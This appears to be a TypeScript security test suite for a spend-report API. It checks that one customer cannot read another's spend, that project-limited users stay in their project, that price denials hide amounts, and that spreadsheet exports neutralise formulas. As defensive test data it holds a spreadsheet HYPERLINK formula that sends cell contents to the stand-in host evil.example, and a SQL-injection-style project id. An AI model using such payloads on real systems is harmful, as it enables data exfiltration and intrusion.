/**
 * Spend follow-up (issue #46, docs/purchasing-controls.md "Inköpsuppföljning") under attack: another customer's spend
 * read through a project id or a customer key, a project-limited user reaching other projects through the query,
 * the denials EJ_SE_EKONOMISK_UPPFÖLJNING and EJ_SE_PRISER (no amount in any answer or file), and formulas in the
 * CSV and XLSX export.
 */
import { strFromU8, unzipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../workers/commerce/src/cart/files";
import {
  bytesOf,
  call,
  createUser,
  env,
  inAssortment,
  placeOrder,
  seedAll,
  signIn,
  type Permissions,
} from "./fixtures";
import { amountsIn } from "./money-filter-scan";

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const EVIL_PROJECT = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")';
let articles: string[] = [];
/** Articles customer 10002 (assortment A-EL) may order. */
let electrical: string[] = [];

beforeAll(async () => {
  articles = await seedAll();
  electrical = await inAssortment(articles, "A-EL");
  await env.DB.prepare("INSERT INTO projects (id, customer_id, name) VALUES ('10001-66', '10001', ?)")
    .bind(EVIL_PROJECT)
    .run();
  // One order in each place the attacks aim at: 10001 without a project, its projects 01 and 66, and 10002.
  await placeOrder(articles[30], [{ customerId: "10001" }]);
  await placeOrder(articles[31], [{ customerId: "10001", projectId: "10001-01" }]);
  await placeOrder(articles[32], [{ customerId: "10001", projectId: "10001-66" }]);
  await placeOrder(electrical[3], [{ customerId: "10002" }]);
});

async function tokenOf(permissions: Permissions, context?: { customerId: string; projectId?: string }) {
  const u = await createUser({ permissions });
  const ctx = context ?? {
    customerId: permissions[0].customerId,
    ...(permissions[0].projectId ? { projectId: permissions[0].projectId } : {}),
  };
  return (await signIn(u.id, ctx)).AccessToken;
}

const spend = (token: string, query = "") => call(`/v2/spend?${query}`, { token });

describe("another customer's spend", () => {
  it("cannot be reached by naming its project (404) or its customer (400: no such key)", async () => {
    const token = await tokenOf([{ customerId: "10002" }]);
    expect((await spend(token, "projectId=10001-01")).status).toBe(404);
    expect((await spend(token, "projectId=10001-66&groupBy=project")).status).toBe(404);
    expect((await call("/v2/spend/export?format=csv&projectId=10001-01", { token })).status).toBe(404);
    expect((await spend(token, "customerId=10001")).status).toBe(400);
    const own = await spend(token, "groupBy=project");
    expect(own.status).toBe(200);
    expect(own.json.customerId).toBe("10002");
    expect(own.json.projects.map((p: { projectId: string }) => p.projectId)).not.toContain("10001-01");
    expect(own.text).not.toContain("10001-");
  });

  it("is never summed into one's own: another customer's new order leaves the total as it was", async () => {
    const token = await tokenOf([{ customerId: "10002" }]);
    const before = (await spend(token)).json;
    await placeOrder(articles[34], [{ customerId: "10001" }]);
    expect((await spend(token)).json).toMatchObject({ netOre: before.netOre, orderCount: before.orderCount });
    // The positive control: an order of his own customer does count.
    await placeOrder(electrical[5], [{ customerId: "10002" }]);
    expect((await spend(token)).json.orderCount).toBe(before.orderCount + 1);
  });
});

describe("a project-limited user", () => {
  const limited: Permissions = [{ customerId: "10001", projectId: "10001-01" }];

  it("sees his project only, whatever the grouping", async () => {
    const token = await tokenOf(limited);
    for (const groupBy of ["month", "project", "category"]) {
      const answer = await spend(token, `groupBy=${groupBy}`);
      expect(answer.status).toBe(200);
      expect(answer.json.projects).toEqual([{ projectId: "10001-01", name: expect.any(String) }]);
    }
    const byProject = await spend(token, "groupBy=project");
    expect(byProject.json.groups.map((g: { key: string }) => g.key)).toEqual(["10001-01"]);
  });

  it("cannot reach another project, the orders without a project or a made-up one through the query", async () => {
    const token = await tokenOf(limited);
    for (const projectId of ["10001-02", "10001-66", "", "10002-01", "nope", "10001-01' OR '1'='1"]) {
      expect((await spend(token, `projectId=${encodeURIComponent(projectId)}`)).status, projectId).toBe(404);
      expect(
        (await call(`/v2/spend/export?format=xlsx&projectId=${encodeURIComponent(projectId)}`, { token })).status,
        projectId,
      ).toBe(404);
    }
  });
});

describe("denials", () => {
  it("refuses EJ_SE_EKONOMISK_UPPFÖLJNING (403) on the report and on both files", async () => {
    const token = await tokenOf([{ customerId: "10001", denies: ["EJ_SE_EKONOMISK_UPPFÖLJNING"] }]);
    const answer = await spend(token);
    expect(answer.status).toBe(403);
    expect(answer.json.message).toBe("Du saknar behörighet till inköpsuppföljningen.");
    for (const format of ["csv", "xlsx"])
      expect((await call(`/v2/spend/export?format=${format}`, { token })).status).toBe(403);
  });

  it("gives EJ_SE_PRISER no amount: 403 everywhere, and no figure in any answer", async () => {
    const token = await tokenOf([{ customerId: "10001", denies: ["EJ_SE_PRISER"] }]);
    for (const groupBy of ["month", "project", "category"]) {
      const answer = await spend(token, `groupBy=${groupBy}`);
      expect(answer.status).toBe(403);
      expect(amountsIn(answer.json)).toEqual([]);
      expect(answer.text).not.toMatch(/netOre|\d{3,}/);
    }
    for (const format of ["csv", "xlsx"]) {
      const file = await bytesOf(`/v2/spend/export?format=${format}`, token);
      expect(file.status).toBe(403);
      expect(file.type).toContain("application/json");
    }
    // The positive control: the same customer's spend has amounts for a user without the denial.
    const seer = await tokenOf([{ customerId: "10001" }]);
    const seen = await spend(seer, "groupBy=project");
    expect(seen.status).toBe(200);
    expect(amountsIn(seen.json).length).toBeGreaterThan(0);
  });

  it("keeps a project with the denial out of a user's spend even when his context allows it", async () => {
    const token = await tokenOf(
      [
        { customerId: "10001", projectId: "10001-01" },
        { customerId: "10001", projectId: "10001-66", denies: ["EJ_SE_PRISER"] },
      ],
      { customerId: "10001", projectId: "10001-01" },
    );
    const answer = await spend(token, "groupBy=project");
    expect(answer.json.groups.map((g: { key: string }) => g.key)).toEqual(["10001-01"]);
    expect((await spend(token, "projectId=10001-66")).status).toBe(404);
  });
});

describe("the export", () => {
  it("neutralises a formula in a project name in the CSV and the XLSX, keeping amounts numeric", async () => {
    const token = await tokenOf([{ customerId: "10001" }]);
    const csv = await call("/v2/spend/export?format=csv&groupBy=project", { token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-disposition")).toMatch(
      /attachment; filename="inkopsuppfoljning-\d{4}-\d{2}-\d{4}-\d{2}\.csv"/,
    );
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(["Projektnummer", "Projekt", "Antal order", "Belopp exkl. moms (kr)"]);
    for (const row of rows) for (const cell of row.slice(0, 2)) expect(cell, cell).not.toMatch(FORMULA_START);
    expect(rows.map((r) => r[1])).toContain(`'${EVIL_PROJECT}`);
    for (const row of rows.slice(1)) expect(row[3], row.join(";")).toMatch(/^\d+,\d{2}$/);

    const xlsx = await bytesOf("/v2/spend/export?format=xlsx&groupBy=project", token);
    expect(xlsx.status).toBe(200);
    const sheet = strFromU8(unzipSync(xlsx.bytes)["xl/worksheets/sheet1.xml"]);
    const texts = [...sheet.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) =>
      m[1]
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, "&")
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">"),
    );
    for (const text of texts) expect(text, text).not.toMatch(FORMULA_START);
    expect(texts).toContain(`'${EVIL_PROJECT}`);
    expect(sheet).not.toMatch(/<f>/);
    // Amounts are number cells (no inline string) in the fourth column.
    expect(sheet).toMatch(/<c r="D2"><v>[\d.]+<\/v><\/c>/);
  });
});
